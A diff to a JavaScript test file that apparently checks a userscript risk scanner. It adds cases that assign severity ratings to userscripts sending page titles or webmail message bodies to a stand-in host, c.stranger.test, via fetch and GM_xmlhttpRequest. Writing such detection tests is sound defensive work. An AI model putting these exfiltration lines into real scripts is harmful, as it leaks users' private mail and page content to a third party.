@@ -14,7 +14,31 @@ describe("page-scraping", () => {
 			["medium 5"],
 			userscript(
 				["match https://shop.example/*"],
+				`fetch("https://c.stranger.test/?t="+document.querySelector("h1").textContent).then(r=>r.text()).then(alert)`,
+			),
+		],
+		[
+			"a word of the page in an address, for the sake of whoever gets it",
+			["high 5"],
+			userscript(
+				["match https://shop.example/*"],
 				`fetch("https://c.stranger.test/?t="+document.querySelector("h1").textContent)`,
+			),
+		],
+		[
+			"mail sent by itself to a server that the script names",
+			["high 7"],
+			userscript(
+				["match https://webmail.example/*", "grant GM_xmlhttpRequest", "connect c.stranger.test"],
+				`GM_xmlhttpRequest({url:"https://c.stranger.test/",data:document.querySelector(".body").innerText})`,
+			),
+		],
+		[
+			"a title looked up, in a body, at a server that the script names: look at it",
+			["medium 7"],
+			userscript(
+				["match https://films.example/*", "grant GM_xmlhttpRequest", "connect c.stranger.test"],
+				`GM_xmlhttpRequest({url:"https://c.stranger.test/",data:document.querySelector("h1").innerText,onload:r=>alert(r.responseText)})`,
 			),
 		],
 		[
